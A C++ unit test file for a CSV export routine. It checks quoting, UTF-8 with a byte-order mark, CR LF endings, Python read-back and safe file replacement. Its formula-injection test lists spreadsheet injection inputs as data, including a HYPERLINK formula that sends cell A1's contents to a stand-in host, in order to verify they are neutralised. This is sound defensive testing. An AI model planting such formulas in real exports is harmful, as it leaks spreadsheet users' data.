// Comma-separated files as another program reads them: Python's csv module gets back every
// field as it was, a field a spreadsheet would run carries a leading apostrophe, lines end
// in CR LF after a byte-order mark, and a file is replaced only by one written whole.

#include "ReportsFixture.h"

#include "reports/query/CsvExport.h"
#include "rules/CsvText.h"

#include <QDir>
#include <QFile>

#include <csignal>
#include <sys/resource.h>

namespace quorin::test {
namespace {

QByteArray ReadAll(const QString& path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

const std::vector<QStringList> kAwkward = {
    {"Consent List"},
    {"LastName", "FirstName", "Notes"},
    {"Smith, Jr.", "Anne", "says \"call after 5\""},
    {"O'Brien", "  Pat", "line one\r\nline two\nthree\rfour"},
    {QString::fromUtf8("M\xC3\xBCller"), QString(), "\""},
    {" ", ",", "trailing blank "},
};

// What a spreadsheet would run gets an apostrophe; numbers, signed ones too, stay numbers.
TEST(CsvFieldTest, FormulaStartsGetAnApostropheNumbersDoNot)
{
    const std::pair<const char*, const char*> cases[] = {
        {"=1+2", "'=1+2"}, {"+1 555 0100", "'+1 555 0100"}, {"-2+3", "'-2+3"}, {"@SUM(A1:A2)", "'@SUM(A1:A2)"},
        {"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\""},
        {"\tcmd", "'\tcmd"}, {"\rcmd", "\"'\rcmd\""}, {"-12", "-12"}, {"+3.5", "+3.5"}, {"-.5", "-.5"},
        {"-1.2.3", "'-1.2.3"}, {"-", "'-"}, {"a=b", "a=b"}, {" =1", " =1"}};
    for (const auto& [value, written] : cases)
        EXPECT_EQ(csv::Field(QString::fromUtf8(value)), QString::fromUtf8(written)) << value;
}

// A formula comes back with its apostrophe, every other field as it was.
TEST(CsvFileTest, PythonReadsBackEveryFieldAsItWas)
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("consent.csv"));
    std::vector<QStringList> lines = kAwkward;
    lines.push_back({"=HYPERLINK(\"http://x.example/\",\"a, b\")", "-4.25"});
    ScriptedUserInterface ui;
    ui.SaveFileNext(path);
    EXPECT_EQ(SaveCsv(ui, QStringLiteral("ConsentList.csv"), lines), CsvResult::Saved);
    EXPECT_TRUE(ui.Texts().isEmpty());
    ASSERT_EQ(ui.SaveRequests().size(), 1u);
    EXPECT_EQ(ui.SaveRequests()[0].defaultExtension, QStringLiteral("csv"));
    EXPECT_EQ(ui.SaveRequests()[0].defaultName, QStringLiteral("ConsentList.csv"));
    EXPECT_EQ(ui.SaveRequests()[0].filters,
              (QStringList{QStringLiteral("Comma Delimited Files (*.csv)"), QStringLiteral("All Files (*.*)")}));

    lines.back()[0].prepend(QLatin1Char('\''));
    EXPECT_EQ(ReadCsvWithPython(path), lines);

    const QByteArray bytes = ReadAll(path);
    EXPECT_TRUE(bytes.startsWith("\xEF\xBB\xBF" "Consent List\r\nLastName,FirstName,Notes\r\n"))
        << "byte-order mark, then the lines";
    EXPECT_TRUE(bytes.contains("\r\n ,\",\",trailing blank \r\n"));
    EXPECT_TRUE(bytes.contains("M\xC3\xBCller")) << "UTF-8";
    // Every line ends in CR LF: of the nine LFs only the bare one inside a field has no CR.
    EXPECT_EQ(bytes.count('\n'), 9);
    EXPECT_EQ(bytes.count("\r\n"), 8);
}

TEST(CsvFileTest, AFolderThatCannotBeWritten)
{
    ScriptedUserInterface ui;
    QTemporaryDir dir;
    ui.SaveFileNext(dir.filePath(QStringLiteral("missing/report.csv")));
    EXPECT_EQ(SaveCsv(ui, QStringLiteral("x.csv"), kAwkward), CsvResult::OpenFailed);
    ASSERT_EQ(ui.Messages().size(), 1u);
    EXPECT_EQ(ui.Messages()[0].text, QStringLiteral("Error: Can't open output file."));
    EXPECT_EQ(ui.Messages()[0].icon, UserInterface::Icon::Stop);
    EXPECT_FALSE(QFile::exists(dir.filePath(QStringLiteral("missing"))));
}

TEST(CsvFileTest, AFailedWriteLeavesTheOldFileAsItWas)
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("closed.csv"));
    const QByteArray old("DatasetName,Irb\r\nHearing 1,2019-041\r\n");
    {
        QFile file(path);
        ASSERT_TRUE(file.open(QIODevice::WriteOnly) && file.write(old) == old.size());
    }
    ScriptedUserInterface ui;
    ui.SaveFileNext(QString());
    EXPECT_EQ(SaveCsv(ui, QStringLiteral("closed.csv"), kAwkward), CsvResult::Cancelled) << "Cancel writes nothing";

    // The file-size limit stops the write part-way, as a full disk would.
    std::signal(SIGXFSZ, SIG_IGN);
    rlimit saved{};
    ASSERT_EQ(getrlimit(RLIMIT_FSIZE, &saved), 0);
    rlimit small = saved;
    small.rlim_cur = 8192;
    ASSERT_EQ(setrlimit(RLIMIT_FSIZE, &small), 0);
    ui.SaveFileNext(path);
    const CsvResult result = SaveCsv(ui, QStringLiteral("closed.csv"), 20000, [](int i) {
        return QStringList{QString::number(i), QStringLiteral("a row long enough to pass the limit soon")};
    });
    ASSERT_EQ(setrlimit(RLIMIT_FSIZE, &saved), 0);
    std::signal(SIGXFSZ, SIG_DFL);

    EXPECT_EQ(result, CsvResult::WriteFailed);
    ASSERT_EQ(ui.Messages().size(), 1u);
    EXPECT_EQ(ui.Messages()[0].text, QStringLiteral("Error: Can't write output file."));
    EXPECT_EQ(ui.Messages()[0].icon, UserInterface::Icon::Stop);
    EXPECT_EQ(ReadAll(path), old) << "byte for byte";
    EXPECT_EQ(QDir(dir.path()).entryList(QDir::Files | QDir::Hidden), QStringList{QStringLiteral("closed.csv")})
        << "no half-written file left beside it";

    // Without the limit the same lines are written whole, replacing the old file.
    ui.SaveFileNext(path);
    EXPECT_EQ(SaveCsv(ui, QStringLiteral("closed.csv"), 20000,
                      [](int i) { return QStringList{QString::number(i), QStringLiteral("x")}; }),
              CsvResult::Saved);
    EXPECT_EQ(ReadCsvWithPython(path).size(), 20000u);
}

} // namespace
} // namespace quorin::test
